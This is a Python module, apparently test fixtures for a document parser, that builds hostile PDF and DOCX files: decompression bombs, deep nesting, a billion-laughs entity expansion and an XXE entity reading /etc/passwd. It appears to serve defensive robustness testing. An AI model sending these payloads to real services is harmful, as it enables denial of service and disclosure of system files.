"""Files made to hurt whoever reads them: each small, each asking for far more than it weighs."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterable

MEGABYTE = 1024 * 1024
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def pdf(objects: Iterable[bytes]) -> bytes:
    """A PDF of numbered objects, the first of which is the catalog."""
    out, places = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, io.SEEK_END)
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer <</Root 1 0 R /Size %d>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))
    return out.getvalue()


def page(content: bytes, extra: bytes = b"") -> bytes:
    """A PDF of one page with this (already complete) content stream."""
    kids = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>" + extra + b">>"
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", kids, content, font])


def stream(chunk: bytes, times: int, layers: int = 1) -> bytes:
    """A content stream that unpacks to `chunk`, so many times, under so many layers of compression."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(chunk) for _ in range(times)) + packer.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode " * layers
    return b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(data), filters, data)


def docx(document: Iterable[bytes]) -> bytes:
    """A DOCX whose document.xml is written piece by piece."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", TYPES)
        package.writestr("_rels/.rels", RELATIONS)
        with package.open("word/document.xml", "w", force_zip64=True) as part:
            for piece in document:
                part.write(piece)
    return out.getvalue()


def body(inner: bytes) -> bytes:
    """A Word document around this."""
    return b"<w:document " + W.encode() + b"><w:body>" + inner + b"</w:body></w:document>"


def many_pages(count: int) -> bytes:
    """A PDF of so many pages, all with the same content."""
    head = [b"<</Type/Catalog/Pages 2 0 R>>"]
    kids = b" ".join(b"%d 0 R" % number for number in range(4, 4 + count))
    head.append(b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count))
    head.append(stream(b"BT (Experience) Tj ET ", 1))
    return pdf([*head, *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 3 0 R>>"] * count])


def laughs() -> bytes:
    """Entities of entities of entities."""
    lines = [b'<!ENTITY a0 "lol">']
    lines += [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 11)]
    return b"<!DOCTYPE d [" + b"".join(lines) + b"]>" + body(b"<w:p><w:r><w:t>&a10;</w:t></w:r></w:p>")


def outside() -> bytes:
    """An entity that names a file of the machine."""
    text = body(b"<w:p><w:r><w:t>Experience &f;</w:t></w:r></w:p>")
    return b'<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + text


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf: 400 MB of blanks in a stream": ("a.pdf", lambda: page(stream(b" " * MEGABYTE, 400))),
    "pdf: 2 GB under two layers": ("a.pdf", lambda: page(stream(b"\0" * MEGABYTE, 2048, layers=2))),
    "pdf: 20 million glyphs": ("a.pdf", lambda: page(stream(b"BT /F 9 Tf (" + b"x" * 1000 + b") Tj ET\n", 20_000))),
    "pdf: 5,000 pages": ("a.pdf", lambda: many_pages(5000)),
    "pdf: 100,000 arrays in one another": (
        "a.pdf",
        lambda: page(stream(b"", 1), b"/X " + b"[" * 100_000 + b"]" * 100_000),
    ),
    "pdf: a million saved states": ("a.pdf", lambda: page(stream(b"q " * 1000, 1000))),
    "docx: 1 GB of blanks": ("a.docx", lambda: docx([b" " * MEGABYTE] * 1024)),
    "docx: a billion laughs": ("a.docx", lambda: docx([laughs()])),
    "docx: a file of the machine": ("a.docx", lambda: docx([outside()])),
    "docx: 50,000 tables in one another": (
        "a.docx",
        lambda: docx([body(b"<w:tbl><w:tr><w:tc>" * 50_000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 50_000)]),
    ),
    "docx: half a million paragraphs": (
        "a.docx",
        lambda: docx([body(b"<w:p><w:r><w:t>Experience at work</w:t></w:r></w:p>" * 500_000)]),
    ),
    "docx: 60,000 members": ("a.docx", lambda: _many_members(60_000)),
}


def _many_members(count: int) -> bytes:
    out = io.BytesIO(docx([body(b"<w:p/>")]))
    with zipfile.ZipFile(out, "a") as package:
        for number in range(count):
            package.writestr(f"word/media/{number}.png", b"")
    return out.getvalue()
